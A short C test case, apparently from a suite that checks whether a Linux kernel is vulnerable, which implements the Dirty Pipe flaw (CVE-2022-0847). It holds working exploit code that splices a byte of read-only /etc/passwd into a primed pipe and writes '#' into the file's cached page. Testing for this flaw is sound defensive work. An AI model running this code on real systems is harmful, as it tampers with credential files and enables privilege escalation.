// title: writes into a file that it may only read, by a pipe that shares its page
// source: CVE-2022-0847 ("Dirty Pipe")
// twin: no: every kernel since 5.16.11 forgets the pipe's flags
#include "attack.h"

ATTACK(write_through_pipe) {
    char first, second, page[4096] = {0};
    int file = open("/etc/passwd", O_RDONLY), ends[2];
    if (pread(file, &first, 1, 1) != 1 || pipe(ends) == -1) return;
    for (int i = 0; i < 16; i++)
        if (write(ends[1], page, sizeof page) != sizeof page) return;
    for (int i = 0; i < 16; i++)
        if (read(ends[0], page, sizeof page) != sizeof page) return;
    loff_t from = 0;
    if (splice(file, &from, ends[1], NULL, 1, 0) == 1 && write(ends[1], "#", 1) != 1) return;
    if (pread(file, &second, 1, 1) == 1 && second != first) through("the file holds %c", second);
    else held("the file is as it was");
}
